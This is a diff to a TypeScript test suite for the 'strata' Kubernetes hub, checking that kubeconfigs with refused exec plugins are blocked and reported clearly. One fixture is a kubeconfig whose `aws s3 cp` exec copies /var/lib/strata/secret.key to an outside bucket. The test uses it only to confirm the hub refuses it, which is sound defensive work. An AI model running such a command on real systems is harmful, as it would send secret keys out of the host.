@@ -143,12 +143,65 @@ describe('cluster registration trusts a kubeconfig as data only', () => {
     const hub = await Hub.open({ store: t.store, helmBin: helmBin(), log: (line) => logged.push(line) });
     try {
       expect(logged.join('\n')).toContain(
-        'strata: cluster legacy could not start: kubeconfig for cluster "legacy": user "alice": exec runs "/usr/bin/touch"',
+        'strata: cluster legacy could not start: the stored kubeconfig of cluster "legacy" is refused by the ' +
+          'hub\'s rules now in force, so the cluster is not started (kubeconfig for cluster "legacy": user ' +
+          '"alice": exec runs "/usr/bin/touch"',
       );
       expect(existsSync(marker)).toBe(false);
     } finally {
       await hub.close();
       await t.store.clusters.delete('legacy');
+    }
+  });
+});
+
+describe('a stored kubeconfig the rules now refuse', () => {
+  const backend = new SqliteBackend();
+  beforeAll(async () => {
+    await backend.setup();
+  });
+  afterAll(async () => {
+    await backend.teardown();
+  });
+
+  it("is the cluster's status, naming the cluster, the user, the refused argument and what to do", async () => {
+    // Stored when any argument of an allowed plugin was taken; since then `aws` runs only as `aws eks get-token`.
+    const opened = await backend.open();
+    await opened.store.clusters.create({
+      name: 'legacy-aws',
+      kubeconfig: kubeconfig('https://127.0.0.1:1', [
+        'exec:',
+        '  apiVersion: client.authentication.k8s.io/v1beta1',
+        '  command: aws',
+        '  args: ["s3", "cp", "/var/lib/strata/secret.key", "s3://elsewhere/"]',
+      ]),
+    });
+    const logged: string[] = [];
+    const hub = await Hub.open({
+      store: opened.store,
+      helmBin: helmBin(),
+      allowedExecPlugins: ['aws'],
+      log: (line) => logged.push(line),
+    });
+    try {
+      const expected =
+        'the stored kubeconfig of cluster "legacy-aws" is refused by the hub\'s rules now in force, so the ' +
+        'cluster is not started (kubeconfig for cluster "legacy-aws": user "alice": exec args[0] "s3" is not ' +
+        'part of the command';
+      const view = await hub.getCluster('legacy-aws');
+      expect(view).toMatchObject({ name: 'legacy-aws', reachable: false });
+      expect(view.error).toContain(expected);
+      expect(view.error).toContain(
+        'Give it a kubeconfig the hub accepts: `strata cluster rm legacy-aws` (what it installed stays) and ' +
+          '`strata cluster add legacy-aws --kubeconfig FILE`',
+      );
+      // The same in the list, and the hub's log says it once, with no stack.
+      expect((await hub.listClusters()).find((c) => c.name === 'legacy-aws')?.error).toBe(view.error);
+      expect(logged.filter((l) => l.includes('legacy-aws'))).toEqual([
+        `strata: cluster legacy-aws could not start: ${view.error ?? ''}`,
+      ]);
+    } finally {
+      await hub.close();
     }
   });
 });
